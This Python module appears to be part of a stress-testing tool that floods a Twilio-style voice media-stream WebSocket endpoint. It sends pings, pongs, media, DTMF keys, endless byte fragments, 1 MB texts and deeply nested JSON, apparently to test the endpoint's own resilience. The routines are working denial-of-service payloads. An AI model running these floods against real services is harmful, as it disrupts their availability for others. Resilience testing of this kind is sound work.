"""A signed and accepted stream of the attacker's own call that sends more than a telephone could."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import Callable, Sequence

from ..attack import Assault, attack
from ..client import Connection
from ..own_call import CLOSE, SILENCE, TEXT, OwnCall, ending_of, frame

PING, PONG, CONTINUATION = 0x9, 0xA, 0x0
MOST_CALLS = 5  # one after another, if the service ends them
CHUNK = 32  # KiB written at once
LARGE = 1 << 20
TAKES_NOTHING = 1.0  # seconds without a read by the peer: it may be slower than the sender
AFTER_AN_END = 0.5  # seconds


def _chunk(one: bytes) -> tuple[bytes, int]:
    """Repeat a frame up to the size that is written at once. Return the bytes and the number of frames."""
    count = max(1, CHUNK * 1024 // len(one))
    return one * count, count


async def _flood(
    assault: Assault, make: Callable[[OwnCall], Sequence[bytes]], *, reads: bool = True, prelude: bytes = b""
) -> None:
    """Open a call's stream and send its frames without end. If the service ends it, continue with another call."""
    for _ in range(MOST_CALLS):
        if not assault.goes_on:
            return
        call = OwnCall(assault)
        try:
            if not await call.comes_in():
                await asyncio.sleep(AFTER_AN_END)
                continue
            connection = await call.stream()
            connection.send(prelude)
            try:
                await _send(assault, connection, make(call), reads)
            finally:
                connection.abort()
                await call.over()
        except (OSError, ssl.SSLError, EOFError, TimeoutError, ValueError) as error:
            assault.got[str(error) or "no answer"] += 1
        await asyncio.sleep(AFTER_AN_END)


async def _send(assault: Assault, connection: Connection, frames: Sequence[bytes], reads: bool) -> None:
    chunks = [_chunk(one) for one in frames]
    ended = asyncio.ensure_future(ending_of(connection)) if reads else None
    try:
        while assault.goes_on and not (ended and ended.done()):
            for chunk, count in chunks:
                connection.send(chunk)
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(min(TAKES_NOTHING, assault.left + 0.01)):
                        await connection.writer.drain()
                        assault.tried += count
        if ended is None or not ended.done():
            assault.got["open to the end"] += 1
            connection.send(frame(call_stop(), TEXT) + frame((1000).to_bytes(2, "big"), CLOSE))
        else:
            assault.got[ended.result()] += 1
    except (OSError, ssl.SSLError):
        assault.got["reset"] += 1
    finally:
        if ended is not None:
            ended.cancel()


def call_stop() -> bytes:
    """Return the stream's last message."""
    return b'{"event":"stop","sequenceNumber":"3","stop":{"accountSid":"","callSid":""}}'


def _media(call: OwnCall) -> bytes:
    return frame(call.event("media", media={"track": "inbound", "chunk": "1", "timestamp": "20", "payload": SILENCE}))


@attack("flood-pings", "Pings, as fast as they are taken", unit="frames", from_same=True)
async def pings(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(b"x" * 20, PING)])


@attack("flood-pings-unread", "Pings whose pongs are never read", unit="frames")
async def pings_unread(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(b"x" * 125, PING)], reads=False)


@attack("flood-pongs", "Unsolicited pongs", unit="frames")
async def pongs(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(b"", PONG)])


@attack("flood-media", "Audio, as fast as it is taken: Twilio sends fifty messages a second", unit="frames")
async def media(assault: Assault) -> None:
    await _flood(assault, lambda call: [_media(call)])


@attack("flood-marks", "Marks that were never set", unit="frames")
async def marks(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(call.event("mark", mark={"name": "0:1"}))])


@attack("flood-keys", "Key presses, thousands a second", unit="frames")
async def keys(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(call.event("dtmf", dtmf={"track": "inbound_track", "digit": "1"}))])


@attack("flood-unknown", "Messages of unknown events, and JSON that is no message", unit="frames")
async def unknown(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(call.event("hello", hello={"a": [1] * 20}))])


@attack("flood-fragments", "One message in fragments of a byte, without end, pings between them", unit="frames")
async def fragments(assault: Assault) -> None:
    pieces = frame(b" ", CONTINUATION, final=False)
    await _flood(assault, lambda call: [pieces, frame(b"", PING)], prelude=frame(b"{", TEXT, final=False))


@attack("flood-empty-fragments", "One message in fragments of no byte at all, without end", unit="frames")
async def empty_fragments(assault: Assault) -> None:
    pieces = frame(b"", CONTINUATION, final=False)
    await _flood(assault, lambda call: [pieces], prelude=frame(b"{", TEXT, final=False))


@attack("flood-large", "Texts of 1 MB", unit="frames")
async def large(assault: Assault) -> None:
    await _flood(assault, lambda call: [frame(b'{"a":"' + b"a" * LARGE)])


@attack("flood-largest", "Texts just below the limit of a message, of nested JSON", unit="frames")
async def largest(assault: Assault) -> None:
    deep = b'{"event":"media","media":' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    wide = b'{"event":"hello","a":[' + b"1," * 20_000 + b"1]}"
    await _flood(assault, lambda call: [frame(wide), frame(deep)])
